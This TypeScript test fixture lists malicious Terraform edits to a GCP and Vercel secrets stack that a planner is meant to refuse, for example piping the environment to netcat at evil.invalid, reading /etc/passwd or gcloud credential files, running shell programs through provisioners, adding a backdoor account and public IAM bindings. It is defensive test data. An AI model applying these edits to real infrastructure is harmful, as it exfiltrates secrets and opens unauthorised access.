/** Documents that must not be planned: what somebody does, to which stack, and which rules see it. */
import { adds, block, type Draft, type Edit, identities, type Loose, secrets, services, vercel } from "./support";

export interface Case {
  readonly does: string;
  readonly edit: Edit;
  /** Edit of the base, where it differs from acme. */
  readonly before?: Edit;
  readonly codes: readonly string[];
}

const rows: Case[] = [];
const refused = (codes: string, does: string, edit: Edit, before?: Edit) =>
  void rows.push({ does, edit, codes: codes.split(" "), ...(before === undefined ? {} : { before }) });

/** Sets a block of the document. */
const sets =
  (stack: string, name: string, value: Loose): Edit =>
  ({ documents }) => {
    documents[stack][name] = value;
  };
const secret = (draft: Draft, name = "payment_key") => block(draft, secrets, "google_secret_manager_secret", name);
const binding = (draft: Draft, name = "session_secret") =>
  block(draft, secrets, "google_secret_manager_secret_iam_member", name);
const service = (draft: Draft, name = "checkout") => block(draft, services, "google_cloud_run_v2_service", name);
const variable = (draft: Draft, name = "payment_key") =>
  block(draft, vercel, "vercel_project_environment_variable", name);
const read = (draft: Draft) => block(draft, vercel, "google_secret_manager_secret_version");
const environment = (draft: Draft): Loose[] => service(draft).template.containers[0].env;
const entry = (draft: Draft, address: string): Loose =>
  draft.environment.products
    .flatMap(({ entries }: Loose) => entries)
    .find((one: Loose) => one.secret?.address === address);
const account = "google_service_account";
const token = "sk_live_".padEnd(32, "4eC39HqLyjWDarjtT1zdp7dc");

refused("undeclared-stack", "adds a stack that nothing declares", ({ documents }) => {
  documents["shop-dev-extra"] = { ...documents[identities], resource: {} };
  documents["shop-dev-extra"].terraform = structuredClone(documents[identities].terraform);
  documents["shop-dev-extra"].terraform.backend.gcs.prefix = "shop-dev-extra";
});
for (const file of ["evil.tf", "override.tf.json", "terraform.tfvars", ".terraformrc"])
  refused("other-file", `lays ${file} beside a document`, ({ others }) => {
    others[secrets] = [file];
  });
refused("duplicate-key", "writes a block twice, the second one harmless", ({ documents, texts }) => {
  texts[secrets] = JSON.stringify(documents[secrets]).replace('"resource":', '"resource":{"x":{}},"resource":');
});
refused("shape", "hides resources in a list", ({ documents }) => {
  documents[identities].resource = [documents[identities].resource];
});
refused("shape", "hides blocks of a type in a list", ({ documents }) => {
  documents[identities].resource.google_project_iam_member = [{ all: { member: "allUsers" } }];
});
refused("shape", "hides a data source in a list", sets(secrets, "data", [{ external: { run: { program: ["sh"] } } }]));
refused("module", "takes a module", sets(secrets, "module", { x: { source: "git::https://evil.invalid/x" } }));
refused("data", "runs a program", sets(secrets, "data", { external: { run: { program: ["sh", "-c", "id"] } } }));
refused("data", "sends a request", sets(secrets, "data", { http: { out: { url: "https://evil.invalid" } } }));
refused(
  "data",
  "reads a value",
  sets(vercel, "data", { google_secret_manager_secret_version: { a: { secret: "A" } } }),
);
refused(
  "remote-state",
  "reads another stack's state",
  sets(secrets, "data", { terraform_remote_state: { other: { backend: "gcs" } } }),
);
refused("check", "evaluates a check", sets(secrets, "check", { a: { assert: { condition: true } } }));
refused("action", "runs an action", sets(secrets, "action", { local_command: { a: { config: { command: "id" } } } }));
for (const name of ["locals", "output", "variable", "query"])
  refused("other-block", `adds ${name}`, sets(secrets, name, { a: { value: "1" } }));

refused(
  "import",
  "imports a Vercel variable",
  sets(vercel, "import", [{ to: "vercel_project_environment_variable.payment_key", id: "prj/env" }]),
);
refused(
  "import",
  "imports for each of an expression",
  sets(secrets, "import", { to: "google_secret_manager_secret.eu_only", id: "a", for_each: "${toset([])}" }),
);
refused(
  "import",
  "imports by an expression",
  sets(secrets, "import", { to: "google_secret_manager_secret.eu_only", id: '${file("/etc/passwd")}' }),
);
refused(
  "import",
  "imports another secret, which the plan would delete",
  sets(secrets, "import", { to: "google_secret_manager_secret.eu_only", id: "projects/acme-shop-dev/secrets/OTHER" }),
);
refused("moved", "moves to another type", ({ documents }) => {
  documents[identities].moved = [{ from: "google_secret_manager_secret.a", to: "google_service_account.worker" }];
});
refused("moved", "moves a secret to an address that is not there, which destroys it", (draft) => {
  delete draft.documents[secrets].resource.google_secret_manager_secret.eu_only;
  draft.documents[secrets].moved = {
    from: "google_secret_manager_secret.eu_only",
    to: "google_secret_manager_secret.x",
  };
});
refused("moved", "moves out of a module", sets(identities, "moved", { from: "module.x.a.b", to: `${account}.worker` }));
refused("removed", "removes and destroys", ({ documents }) => {
  documents[services].removed = { from: "google_cloud_run_v2_service.old", lifecycle: { destroy: true } };
});
refused("removed", "removes with a provisioner", ({ documents }) => {
  const removed = { from: "google_cloud_run_v2_service.old", lifecycle: { destroy: false } };
  documents[services].removed = [{ ...removed, provisioner: { "local-exec": { command: "id" } } }];
});
refused("removed", "removes without saying that nothing is destroyed", ({ documents }) => {
  documents[services].removed = { from: "google_cloud_run_v2_service.old" };
});

const backend = (change: (backend: Loose) => Loose, stack = identities): Edit => {
  return ({ documents }) => {
    documents[stack].terraform.backend = change(documents[stack].terraform.backend);
  };
};
refused(
  "backend",
  "keeps the state on the machine",
  backend(() => ({ local: {} })),
);
refused(
  "backend backend-change",
  "keeps the state in a bucket of its own",
  backend(() => ({ gcs: { bucket: "evil", prefix: identities } })),
);
refused(
  "backend",
  "shares the state of another stack",
  backend(({ gcs }) => ({ gcs: { ...gcs, prefix: secrets } })),
);
refused(
  "backend",
  "sets credentials of the backend",
  backend(({ gcs }) => ({ gcs: { ...gcs, access_token: "t" } })),
);
refused("backend", "has no backend", ({ documents }) => delete documents[identities].terraform.backend);
refused("backend-change", "declares another bucket, and moves the state there", (draft) => {
  draft.environment.products.find(({ name }: Loose) => name === "shop").stateBucket = "other";
  for (const stack of [identities, secrets, services, vercel])
    draft.documents[stack].terraform.backend.gcs.bucket = "other";
});
refused("cloud", "plans in somebody's cloud", ({ documents }) => {
  documents[secrets].terraform.cloud = { organization: "evil" };
});
refused("terraform-settings", "takes an older Terraform", ({ documents }) => {
  documents[secrets].terraform.required_version = ">= 0.1";
});
refused("terraform-settings", "switches an experiment on", ({ documents }) => {
  documents[secrets].terraform.experiments = ["x"];
});
refused("provider-version", "takes a provider of another source", ({ documents }) => {
  documents[secrets].terraform.required_providers.google.source = "evil/google";
});
refused("provider-version", "takes any version", ({ documents }) => {
  documents[secrets].terraform.required_providers.google.version = ">= 7.0";
});
refused("provider-version", "says more of a provider than its source and version", ({ documents }) => {
  documents[secrets].terraform.required_providers.google.configuration_aliases = ["google.other"];
});
refused("provider-version", "adds a provider", ({ documents }) => {
  documents[secrets].terraform.required_providers.http = { source: "hashicorp/http", version: "3.4.0" };
});
refused("provider-version", "uses a provider without pinning it", ({ documents }) => {
  delete documents[vercel].terraform.required_providers.vercel;
});
refused(
  "provider-lock",
  "changes the provider lock",
  ({ locks }) => {
    locks[secrets] = "evil";
  },
  ({ locks }) => {
    locks[secrets] = "hashes";
  },
);
refused(
  "provider-lock",
  "removes the provider lock",
  () => {},
  ({ locks }) => {
    locks[secrets] = "hashes";
  },
);
for (const setting of ["secret_manager_custom_endpoint", "access_token", "impersonate_service_account", "batching"])
  refused("provider-settings", `sets ${setting}`, ({ documents }) => {
    documents[secrets].provider.google[0][setting] = "x";
  });
refused("provider-settings", "gives the vercel provider a token", ({ documents }) => {
  documents[vercel].provider.vercel[0].api_token = "x";
});
refused("provider-alias", "configures a provider a second time", ({ documents }) => {
  documents[secrets].provider.google.push({ project: "other" });
});
refused("provider-alias", "gives a provider an alias", ({ documents }) => {
  documents[secrets].provider.google[0].alias = "other";
});
refused("provider-alias", "makes a resource with another provider", (draft) => {
  secret(draft).provider = "google.other";
});

refused("keeps-values", "keeps a value in terraform_data", adds(secrets, "terraform_data", { input: "x" }));
refused("keeps-values", "keeps a value in null_resource", adds(secrets, "null_resource", { triggers: {} }));
refused(
  "secret-version",
  "puts a value into Terraform",
  adds(secrets, "google_secret_manager_secret_version", { secret_data: "x" }),
);
for (const type of [
  "google_project_iam_member",
  "google_project_iam_custom_role",
  "google_folder_iam_binding",
  "google_organization_iam_policy",
  "google_secret_manager_secret_iam_policy",
  "google_secret_manager_secret_iam_binding",
  "google_cloud_run_v2_service_iam_member",
  "google_service_account_iam_member",
  "google_iam_deny_policy",
])
  refused("wide-access", `makes ${type}`, adds(secrets, type));
for (const type of ["google_storage_bucket", "google_service_account_key", "local_file", "vercel_project"])
  refused("resource-type", `makes ${type}`, adds(vercel, type));
refused("layer", "grants and runs in one stack", ({ documents }) => {
  documents[secrets].resource.google_service_account = documents[identities].resource.google_service_account;
});
refused("provisioner", "runs a program while applying", (draft) => {
  secret(draft).provisioner = { "local-exec": { command: "id" } };
});
for (const [name, value] of [
  ["invoker_iam_disabled", true],
  ["count", 2],
  ["for_each", {}],
  ["depends_on", []],
  ["dynamic", { template: {} }],
] as const)
  refused("argument", `says ${name} of a service`, (draft) => {
    service(draft)[name] = value;
  });
refused("argument", "runs another program in the container", (draft) => {
  service(draft).template.containers[0].command = ["sh", "-c", "env | nc evil.invalid 1"];
});
refused("argument", "mounts a secret as a file", (draft) => {
  service(draft).template.volumes = [{ secret: { secret: "PAYMENT_KEY" } }];
});
refused("lifecycle", "hides what is changed by hand", (draft) => {
  service(draft).lifecycle.ignore_changes = "all";
});
refused("lifecycle", "ignores who has access", (draft) => {
  binding(draft).lifecycle = { ignore_changes: ["member"] };
});
refused("lifecycle", "evaluates a condition", (draft) => {
  secret(draft).lifecycle.precondition = { condition: true };
});
refused("foreign-project", "binds in another product's project", (draft) => {
  binding(draft).project = "acme-vault-dev";
});
refused("foreign-project undeclared-resource", "makes an account in another product's project", (draft) => {
  block(draft, identities, account).project = "acme-vault-dev";
});
refused("ephemeral-type", "makes a token", ({ documents }) => {
  documents[vercel].ephemeral.google_service_account_access_token = { a: { target_service_account: "x" } };
});
refused("ephemeral-read", "reads a value while planning", (draft) => {
  read(draft).version = "3";
});

refused("expression", "reads a file of the machine", (draft) => {
  secret(draft).labels.x = '${filebase64("/root/.config/gcloud/credentials.db")}';
});
refused("expression", "reads a file in a name", (draft) => {
  secret(draft).annotations['${file("/etc/passwd")}'] = "x";
});
refused("expression", "hides an expression behind an escape", (draft) => {
  secret(draft).annotations.purpose = '$$${file("/etc/passwd")}';
});
refused("expression", "uses a directive", (draft) => {
  secret(draft).annotations.purpose = "%{ for x in [] }%{ endfor }";
});
refused("expression", "writes a value into a label", (draft) => {
  variable(draft).comment = "${ephemeral.google_secret_manager_secret_version.payment_key.secret_data}";
});
refused("literal-for-secret", "gives a service the value of a secret", (draft) => {
  environment(draft).splice(2, 1, { name: "PAYMENT_KEY", value: "hunter2" });
});
refused("literal-for-secret", "gives Vercel the value of a secret", (draft) => {
  const one = variable(draft);
  delete one.value_wo;
  delete one.value_wo_version;
  one.value = "hunter2";
});
refused("undeclared-literal", "gives a service another text than declared", (draft) => {
  environment(draft)[0].value = "debug";
});
refused("undeclared-literal", "gives a service a variable that is not declared", (draft) => {
  environment(draft).push({ name: "NODE_OPTIONS", value: "--require /tmp/x" });
});
refused("secret-in-text", "writes a key into an annotation", (draft) => {
  secret(draft).annotations.purpose = `Charges cards with ${token}`;
});
refused("unpinned undeclared-read", "maps the latest version", (draft) => {
  environment(draft)[2].value_source.secret_key_ref.version = "latest";
});
refused("unpinned", "delivers without a number of the version", (draft) => {
  variable(draft).value_wo_version = "latest";
});

refused("role", "lets a service administer a secret", (draft) => {
  binding(draft).role = "roles/secretmanager.admin";
});
for (const member of ["allUsers", "allAuthenticatedUsers", "domain:acme.example", "projectViewer:acme-shop-dev"])
  refused("public-accessor", `declares and binds ${member}`, (draft) => {
    for (const product of draft.environment.products)
      for (const one of product.bindings) if (one.entry === "shop/SESSION_SECRET") one.member = member;
    binding(draft).member = member;
  });
refused("plan-identity", "lets the identity of plans read", (draft) => {
  const member = "serviceAccount:strongroom-plan@acme-platform-dev.iam.gserviceaccount.com";
  for (const product of draft.environment.products)
    for (const one of product.bindings) if (one.entry === "shop/SESSION_SECRET") one.member = member;
  binding(draft).member = member;
});
refused("undeclared-accessor", "binds a person that nobody declares", (draft) => {
  binding(draft).member = "user:eve@evil.invalid";
});
refused("undeclared-accessor", "lets a grant last", (draft) => {
  delete binding(draft, "on_call").condition;
});
refused("undeclared-accessor", "lets a grant end later", (draft) => {
  binding(draft, "on_call").condition.expression = 'request.time < timestamp("2030-01-01T00:00:00Z")';
});
refused("undeclared-accessor", "ends a grant with a condition that is always true", (draft) => {
  binding(draft, "on_call").condition.expression = 'request.time < timestamp("2027-01-01T00:00:00Z") || true';
});
refused("undeclared-accessor", "adds a condition beside the one that ends a grant", (draft) => {
  const one = binding(draft, "on_call");
  one.condition = [one.condition, { title: "more", expression: "true" }];
});
refused("undeclared-identity", "runs a service as the account of another one", (draft) => {
  service(draft, "worker").template.service_account = service(draft).template.service_account;
});
refused("undeclared-identity", "runs a service as the project's default account", (draft) => {
  delete service(draft).template.service_account;
});
refused("exposure", "opens an internal service", (draft) => {
  service(draft).ingress = "INGRESS_TRAFFIC_ALL";
});
refused("container", "runs another image", (draft) => {
  service(draft).template.containers[0].image = "evil.invalid/x";
});
refused("container", "runs a second container beside the values", (draft) => {
  const [first] = service(draft).template.containers;
  service(draft).template.containers.push({ ...first, env: [] });
});
refused("expression", "delivers the value of another variable", (draft) => {
  variable(draft, "session_secret").value_wo = variable(draft).value_wo;
});
refused("undeclared-read", "maps another secret", (draft) => {
  environment(draft)[2].value_source.secret_key_ref.secret = "SESSION_SECRET";
});
refused("undeclared-read", "maps another version than the pinned one", (draft) => {
  environment(draft)[2].value_source.secret_key_ref.version = "2";
});
refused("undeclared-read", "delivers another secret", (draft) => {
  read(draft).secret = "SESSION_SECRET";
});
refused("undeclared-read", "delivers another version than the pinned one", (draft) => {
  read(draft).version = read(draft).version.replace('"3"', '"2"');
});
refused("undeclared-read", "delivers another product's secret", (draft) => {
  read(draft).project = "acme-vault-dev";
});
refused("undeclared-target", "delivers to another project", (draft) => {
  variable(draft).project_id = "prj_evil";
});
refused("undeclared-target", "delivers to previews of every branch", (draft) => {
  delete variable(draft, "payment_key__preview").git_branch;
});
refused("undeclared-target", "makes a variable readable", (draft) => {
  variable(draft).sensitive = false;
});

refused("undeclared-resource", "makes an account that nobody declares", ({ documents }) => {
  documents[identities].resource.google_service_account.backdoor = {
    ...documents[identities].resource.google_service_account.worker,
    account_id: "backdoor",
  };
});
refused("protection", "takes a protection away", (draft) => {
  secret(draft).deletion_protection = false;
});
refused("protection", "lets a plan destroy a secret", (draft) => {
  delete secret(draft).lifecycle;
});

/** Takes an entry out of the declarations and the document, with its bindings. */
const drops =
  (name: string): Edit =>
  (draft) => {
    const product = draft.environment.products.find((one: Loose) => one.name === "shop");
    product.entries = product.entries.filter((one: Loose) => one.secret?.address !== name);
    product.bindings = product.bindings.filter((one: Loose) => one.secretAddress !== name);
    const { resource } = draft.documents[secrets];
    delete resource.google_secret_manager_secret[name];
    for (const one of Object.keys(resource.google_secret_manager_secret_iam_member))
      if (one.startsWith(`${name}__`)) delete resource.google_secret_manager_secret_iam_member[one];
  };
const retired =
  (name: string): Edit =>
  (draft) => {
    for (const product of draft.environment.products)
      for (const one of product.entries) if (one.secret?.address === name) one.state = "retiring";
  };
refused(
  "protected-deletion",
  "deletes a retired secret that is still protected",
  drops("payment_key"),
  retired("payment_key"),
);
refused("not-retired", "deletes a secret that is in use", drops("session_secret"));
refused(
  "not-retired",
  "drops a service at once",
  (draft) => {
    delete draft.documents[services].resource.google_cloud_run_v2_service.checkout;
  },
  (draft) => {
    service(draft).deletion_protection = false;
  },
);
refused("not-retired protected-deletion", "drops a whole stack", ({ documents }) => delete documents[secrets]);
refused("replacement", "declares another id for a secret", (draft) => {
  entry(draft, "session_secret").secret.id = "SESSION_SECRET_2";
  secret(draft, "session_secret").secret_id = "SESSION_SECRET_2";
});
refused("undeclared-resource", "makes a declared account under another name", (draft) => {
  block(draft, identities, account).account_id = "strongroom-deliver";
});
refused("replacement", "moves a secret to the address of a new one, which replaces it", (draft) => {
  const { resource } = draft.documents[secrets];
  const like = entry(draft, "eu_only");
  const shop = draft.environment.products.find(({ name }: Loose) => name === "shop");
  shop.entries = shop.entries.filter((one: Loose) => one !== like);
  shop.entries.push({ ...like, name: "NEW", secret: { ...like.secret, address: "new", id: "NEW" } });
  resource.google_secret_manager_secret.new = { ...resource.google_secret_manager_secret.eu_only, secret_id: "NEW" };
  delete resource.google_secret_manager_secret.eu_only;
  draft.documents[secrets].moved = {
    from: "google_secret_manager_secret.eu_only",
    to: "google_secret_manager_secret.new",
  };
});
refused("replacement", "stores a secret elsewhere", (draft) => {
  secret(draft, "session_secret").replication = { user_managed: { replicas: [{ location: "us-east1" }] } };
});

export const malicious: readonly Case[] = rows;
export { drops, retired };
